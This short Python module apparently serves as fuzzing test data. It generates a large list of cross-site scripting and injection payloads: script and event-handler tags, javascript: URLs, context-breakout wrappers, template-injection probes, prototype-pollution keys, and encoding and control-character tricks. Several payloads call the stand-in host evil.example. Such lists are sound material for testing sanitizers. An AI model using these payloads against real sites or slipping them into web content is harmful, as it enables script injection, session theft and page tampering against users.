"""Text that would like to be more than text."""

import itertools

_ACTS = ("alert(1)", "fetch('http://evil.example/x')", "document.title='taken'")
_ELEMENTS = (
    "<script>{}</script>",
    "</script><script>{}</script>",
    "<!--<script>{}",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<iframe srcdoc='<script>{}</script>'>",
    "<iframe src=javascript:{}>",
    "<a href='javascript:{}' autofocus onfocus={}>x</a>",
    "<details open ontoggle={}>",
    "<style onload={}></style>",
    "<style>@import 'http://evil.example/{}';</style>",
    "<body onload={}>",
    "<input autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    "<math><mtext></script><img src=1 onerror={}>",
    "<base href='http://evil.example/'><script src=x>{}</script>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<form action=javascript:{}><button autofocus>x",
    "<object data='javascript:{}'></object>",
    "<link rel=stylesheet href='http://evil.example/{}'>",
    "<template shadowrootmode=open><script>{}</script>",
)
_AROUND = (
    "{}",
    '"><{}',
    "'>{}<'",
    "</title>{}",
    "</style>{}",
    "</textarea></noscript>{}",
    "]]>{}",
    "\\u003c/script\\u003e{}",
)
_OTHERS = (
    "{{ 7*7 }}{% for x in () %}",
    "{{ ''.__class__.__mro__ }}",
    "${alert(1)}",
    "`${alert(1)}`",
    "';alert(1);//",
    '";alert(1);//',
    "\\';alert(1);//",
    "\u2028alert(1)\u2029",
    "__proto__",
    "constructor",
    "toString",
    "</p></bdi></table></main>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3c;script&#x3e;alert(1)",
    "\u202ereversed\u202c",
    "\ufeff",
    "\x00<script>alert(1)</script>",
    "\x1b[31mred",
    "\ud7ff\U0010ffff",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "-->",
    "*/alert(1)/*",
    "\r\n\r\n<script>alert(1)</script>",
    "a" * 5000,
    "<" * 500,
    "\u0300" * 200,
)

PAYLOADS = [
    *(
        around.replace("{}", element.replace("{}", act))
        for (element, around), act in zip(
            itertools.product(_ELEMENTS, _AROUND), itertools.cycle(_ACTS), strict=False
        )
    ),
    *(element.replace("{}", act) for element in _ELEMENTS for act in _ACTS[1:]),
    *(
        element.replace("<", "\uff1c").replace("{}", "alert(1)")
        for element in _ELEMENTS
    ),
    *(element.replace("{}", "alert(2)").swapcase() for element in _ELEMENTS),
    *(element.replace(" ", "/").replace("{}", "alert`3`") for element in _ELEMENTS),
    *_OTHERS,
]
